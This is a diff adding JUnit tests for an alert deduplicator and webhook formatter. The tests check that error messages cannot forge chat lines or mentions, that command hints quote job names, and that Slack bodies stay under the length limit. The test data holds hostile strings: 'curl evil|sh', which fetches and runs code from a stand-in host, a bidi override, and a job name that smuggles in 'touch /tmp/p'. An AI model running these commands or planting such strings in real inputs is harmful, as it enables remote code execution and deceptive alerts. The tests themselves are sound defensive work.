@@ -166,4 +166,88 @@ class AlertDeduplicatorTest {
     assertThat(am.at("/0/labels/fingerprint").asText()).isEqualTo(a.fingerprint());
     assertThat(am.at("/0/startsAt").asText()).isEqualTo("2026-11-29T12:00:00Z");
   }
+
+  /**
+   * A handler's error message is anyone's text: a newline in it forged a second alert line (with a
+   * command of the attacker's as its "hint") in chat and in the log, U+202E reordered the rest of
+   * the line, and Mattermost and Rocket.Chat (which take the Slack format) read @channel as a
+   * mention of everyone.
+   */
+  @Test
+  void anErrorMessageCannotForgeALineReorderItOrMentionAChannel() throws Exception {
+    String hostile =
+        "boom\nItemFleet: new failure in job payments (type refund): x — fleet failures payments;"
+            + " curl evil|sh\r\u202Egnp.exe @channel\u2028end\u2066";
+    Alert a = new AlertDeduplicator().accept(failed("j", "v-1", "err\nclass", hostile)).get(0);
+    assertThat(a.text())
+        .doesNotContain("\n", "\r", "\u202E", "\u2028", "\u2066")
+        .contains("boom\\nItemFleet: new failure in job payments")
+        .contains("\\u202Egnp.exe")
+        .contains("err\\nclass");
+    var json = new com.fasterxml.jackson.databind.ObjectMapper();
+    String slack = json.readTree(WebhookFormat.SLACK.body(List.of(a, a))).get("text").asText();
+    assertThat(slack.split("\n")).as("one line per alert").hasSize(2);
+    assertThat(slack).doesNotContain("@channel").contains("\uFF20channel");
+    var generic = json.readTree(WebhookFormat.GENERIC.body(List.of(a)));
+    assertThat(generic.at("/alerts/0/message").asText())
+        .as("machines get the message as it was")
+        .isEqualTo(hostile);
+  }
+
+  /** The hint of the summary of further groups is a command to copy too: its job is quoted. */
+  @Test
+  void theOverflowSummarysHintQuotesItsJob() {
+    AlertDeduplicator d = new AlertDeduplicator();
+    String job = "x;touch /tmp/p";
+    for (int i = 0; i < AlertDeduplicator.MAX_FIRST_PER_WINDOW + 2000; i++) {
+      d.accept(failed(job, "v-" + i, "err.kind" + i, "failed"));
+    }
+    List<Alert> summaries = d.flush();
+    Alert more = summaries.get(summaries.size() - 1);
+    assertThat(more.fingerprint()).isEqualTo(AlertDeduplicator.OVERFLOW_FINGERPRINT);
+    assertThat(more.hint()).isEqualTo("fleet failures 'x;touch /tmp/p'");
+  }
+
+  /**
+   * Slack cuts a message's text after 40,000 characters and still answers 200: 50 alerts of ~1,600
+   * characters in one body lost their second half without a word, counted as delivered. A Slack
+   * request now carries as many alerts as fit.
+   */
+  @Test
+  void aSlackBodyCarriesOnlyTheAlertsThatFitItsText() throws Exception {
+    List<Alert> alerts = new java.util.ArrayList<>();
+    for (int i = 0; i < 50; i++) {
+      List<String> samples = new java.util.ArrayList<>();
+      for (int k = 0; k < AlertDeduplicator.SAMPLES; k++) samples.add(i + "-" + "v".repeat(200));
+      alerts.add(
+          new Alert(
+              Alert.Kind.SUMMARY,
+              "j",
+              "t",
+              "fp" + i,
+              "err.kind",
+              "m<".repeat(250),
+              7,
+              samples,
+              Instant.parse("2026-11-29T12:00:00Z"),
+              Instant.parse("2026-11-29T12:05:00Z"),
+              "fleet failures j --fingerprint fp" + i));
+    }
+    var json = new com.fasterxml.jackson.databind.ObjectMapper();
+    int sent = 0;
+    int requests = 0;
+    while (sent < alerts.size()) {
+      List<Alert> rest = alerts.subList(sent, alerts.size());
+      int n = WebhookFormat.SLACK.fits(rest, 50);
+      assertThat(n).isPositive();
+      String text =
+          json.readTree(WebhookFormat.SLACK.body(rest.subList(0, n))).get("text").asText();
+      assertThat(text.length()).isLessThanOrEqualTo(WebhookFormat.MAX_SLACK_TEXT);
+      assertThat(text).contains("fp" + (sent + n - 1));
+      sent += n;
+      requests++;
+    }
+    assertThat(requests).as("more than one request, none cut").isGreaterThan(1);
+    assertThat(WebhookFormat.GENERIC.fits(alerts, 50)).isEqualTo(50);
+  }
 }
